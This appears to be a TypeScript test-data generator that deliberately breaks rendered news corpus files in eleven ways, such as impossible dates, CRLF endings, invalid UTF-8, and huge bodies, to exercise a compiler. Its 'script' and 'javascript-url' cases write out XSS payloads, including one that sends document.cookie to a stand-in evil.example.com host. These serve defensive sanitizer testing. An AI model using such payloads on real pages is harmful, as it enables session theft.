/**
 * The ways real trees break the format (docs/corpus-format.md, "What happens to files that break the rules"), applied
 * to rendered files so the compiler meets every one of them.
 */
import { dateFromDay, isoFromDay, type DayNumber } from '../bundle/index.ts';
import { Random } from './random.ts';
import { dateHeading, dayFolder } from './render.ts';

export const MALFORMED_CASES = [
  'impossible-date',
  'missing-date',
  'folder-mismatch',
  'empty',
  'crlf',
  'bom',
  'invalid-utf8',
  'script',
  'javascript-url',
  'huge-body',
  'duplicate-folder',
] as const;

export type MalformedCase = (typeof MALFORMED_CASES)[number];

export interface GeneratedFile {
  /** Relative to the corpus root, `/`-separated. */
  path: string;
  content: string | Uint8Array;
}

const HUGE_BODY_BYTES = 400_000;

/**
 * Which events to break and how: `percent` of them, spread evenly over the cases, every case
 * at least once when there are enough events.
 */
export function planMalformed(days: readonly DayNumber[], percent: number, random: Random): Map<number, MalformedCase> {
  const chosen = new Map<number, MalformedCase>();
  if (percent <= 0 || days.length === 0) return chosen;
  let total = Math.round((days.length * Math.min(100, percent)) / 100);
  total = Math.min(days.length, Math.max(total, MALFORMED_CASES.length));
  const order = random.shuffle(Array.from(days.keys()));
  MALFORMED_CASES.forEach((kind, k) => {
    let quota = Math.floor(total / MALFORMED_CASES.length) + (k < total % MALFORMED_CASES.length ? 1 : 0);
    for (const index of order) {
      if (quota === 0) break;
      if (chosen.has(index)) continue;
      if (kind === 'duplicate-folder' && dateFromDay(days[index]).getUTCDate() >= 10) continue;
      chosen.set(index, kind);
      quota--;
    }
  });
  return chosen;
}

/** The file(s) that replace a well-formed event file. */
export function breakFile(
  kind: MalformedCase,
  file: GeneratedFile & { content: string },
  day: DayNumber,
  random: Random,
): GeneratedFile[] {
  const text = file.content;
  const name = file.path.slice(file.path.lastIndexOf('/') + 1);
  switch (kind) {
    case 'impossible-date': {
      const year = isoFromDay(day).slice(0, 4);
      const iso = `${year}-${random.pick(['02-30', '02-31', '04-31', '06-31', '09-31', '11-31'])}`;
      return [{ path: `news/${iso.replaceAll('-', '/')}/${name}`, content: replaceHeading(text, iso) }];
    }
    case 'missing-date':
      return [{ path: file.path, content: text.slice(text.indexOf('\n# ') + 1) }];
    case 'folder-mismatch': {
      const shift = random.int(1, 40) * (random.chance(0.5) ? 1 : -1);
      return [{ path: file.path, content: replaceHeading(text, isoFromDay(day + shift)) }];
    }
    case 'empty':
      return [{ path: file.path, content: '' }];
    case 'crlf':
      return [{ path: file.path, content: text.replaceAll('\n', '\r\n') }];
    case 'bom':
      return [{ path: file.path, content: `\ufeff${text}` }];
    case 'invalid-utf8': {
      const cut = afterTitle(text);
      const bad = Uint8Array.from([0x42, 0x61, 0x64, 0x20, 0xff, 0xc3, 0x28, 0xed, 0xa0, 0x80, 0x0a]);
      return [
        {
          path: file.path,
          content: Buffer.concat([Buffer.from(text.slice(0, cut)), bad, Buffer.from(text.slice(cut))]),
        },
      ];
    }
    case 'script': {
      const withTitle = text.replace(/\n# (.*) \n/, '\n# $1 <script>alert("title")</script> \n');
      const payload =
        '<script>fetch("https://evil.example.com/?c=" + document.cookie)</script> <img src=x onerror="alert(1)">';
      return [{ path: file.path, content: insertAfterTitle(withTitle, payload) }];
    }
    case 'javascript-url': {
      const withSource = text.replace(
        /(### Sources?:\n\n1\. \[[^\]]*\])\([^\n]*\)/,
        '$1(javascript:alert(document.cookie))',
      );
      return [
        { path: file.path, content: insertAfterTitle(withSource, 'Read [the full story](javascript:alert(1)) here.') },
      ];
    }
    case 'huge-body': {
      const sentence = 'This paragraph repeats to make the body very large \u2014 far beyond any real summary. ';
      return [
        {
          path: file.path,
          content: insertAfterTitle(text, sentence.repeat(Math.ceil(HUGE_BODY_BYTES / sentence.length))),
        },
      ];
    }
    case 'duplicate-folder': {
      const unpadded = file.path.split('/')[3].length === 1;
      const other = `${dayFolder(day, !unpadded)}/${name}`;
      return [file, { path: other, content: text }];
    }
  }
}

function replaceHeading(text: string, iso: string): string {
  return text.replace(/^### \[[^\]]*\]\([^)]*\)/, dateHeading(iso));
}

function afterTitle(text: string): number {
  return text.indexOf('\n', text.indexOf('\n# ') + 1) + 1;
}

function insertAfterTitle(text: string, paragraph: string): string {
  const cut = afterTitle(text);
  return `${text.slice(0, cut)}\n${paragraph}\n${text.slice(cut)}`;
}
